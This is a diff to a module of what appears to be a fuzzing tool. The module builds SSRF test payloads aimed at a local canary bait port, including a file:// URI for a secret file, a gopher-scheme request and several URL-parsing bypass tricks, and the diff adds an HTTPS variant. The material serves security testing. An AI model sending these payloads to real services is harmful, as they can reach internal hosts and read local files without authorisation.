@@ -8,7 +8,7 @@ from functools import lru_cache
 
 from mcpfuzz.strategies.payload import Payload
 
-__all__ = ["addresses", "climbs"]
+__all__ = ["TLS", "addresses", "climbs"]
 
 HOSTS: tuple[tuple[str, str], ...] = (
     ("127.0.0.1", "loopback"),
@@ -26,6 +26,8 @@ HOSTS: tuple[tuple[str, str], ...] = (
     ("example.com@127.0.0.1", "loopback behind a user name that looks like a host"),
 )
 _TOKEN = "{canary:1}"
+TLS = "ssrf over TLS"
+"""What arrives is encrypted and shows no canary: whoever comes to the bait at all was sent there."""
 
 
 @lru_cache(maxsize=4096)
@@ -36,22 +38,26 @@ def addresses(base: str) -> tuple[Payload, ...]:
         base: the good value; its scheme and path may be what a check wants.
     """
     path = base.split("://", 1)[-1].partition("/")[2].split("?")[0] if "://" in base else ""
-    made = [Payload(f"http://{host}:{{bait_port}}/{_TOKEN}", words, (f"/{_TOKEN}",), "ssrf") for host, words in HOSTS]
+    made = [_whole(f"http://{host}:{{bait_port}}/{_TOKEN}", words, "ssrf") for host, words in HOSTS]
     made[2:2] = [
-        Payload("file://{outside}/secret.txt", "a file: URI", ("{outside}/secret.txt",), "ssrf"),
-        Payload(f"127.0.0.1:{{bait_port}}/{_TOKEN}", "loopback without a scheme", (f"/{_TOKEN}",), "ssrf"),
+        _whole("file://{outside}/secret.txt", "a file: URI", "ssrf"),
+        _whole(f"127.0.0.1:{{bait_port}}/{_TOKEN}", "loopback without a scheme", "ssrf"),
     ]
     made += [
-        Payload(f"HTTP://127.0.0.1:{{bait_port}}/{_TOKEN}", "a scheme in capitals", (f"/{_TOKEN}",), "ssrf"),
-        Payload(f"//127.0.0.1:{{bait_port}}/{_TOKEN}", "no scheme, two slashes", (f"/{_TOKEN}",), "ssrf"),
-        Payload(f"http://127.0.0.1:{{bait_port}}/{_TOKEN}/{path}", "loopback, the good path", (f"/{_TOKEN}",), "ssrf"),
-        Payload(f"http:/\\127.0.0.1:{{bait_port}}/{_TOKEN}", "a backslash", (f"/{_TOKEN}",), "ssrf"),
-        Payload(
-            f"http://127.0.0.1:{{bait_port}}\\@example.com/{_TOKEN}", "a backslash before @", (f"/{_TOKEN}",), "ssrf"
-        ),
-        Payload(f"gopher://127.0.0.1:{{bait_port}}/_GET%20/{_TOKEN}%0d%0a", "another scheme", (_TOKEN,), "ssrf"),
+        _whole(f"https://127.0.0.1:{{bait_port}}/{_TOKEN}", "loopback over TLS", TLS),
+        _whole(f"HTTP://127.0.0.1:{{bait_port}}/{_TOKEN}", "a scheme in capitals", "ssrf"),
+        _whole(f"//127.0.0.1:{{bait_port}}/{_TOKEN}", "no scheme, two slashes", "ssrf"),
+        _whole(f"http://127.0.0.1:{{bait_port}}/{_TOKEN}/{path}", "loopback, the good path", "ssrf"),
+        _whole(f"http:/\\127.0.0.1:{{bait_port}}/{_TOKEN}", "a backslash", "ssrf"),
+        _whole(f"http://127.0.0.1:{{bait_port}}\\@example.com/{_TOKEN}", "a backslash before @", "ssrf"),
+        _whole(f"gopher://127.0.0.1:{{bait_port}}/_GET%20/{_TOKEN}%0d%0a", "another scheme", "ssrf"),
     ]
     return tuple(made)
+
+
+def _whole(text: str, words: str, rule: str) -> Payload:
+    """An address is not shortened: half of one may name somebody else."""
+    return Payload(text, words, (text,), rule)
 
 
 CLIMBS: tuple[tuple[str, str], ...] = (
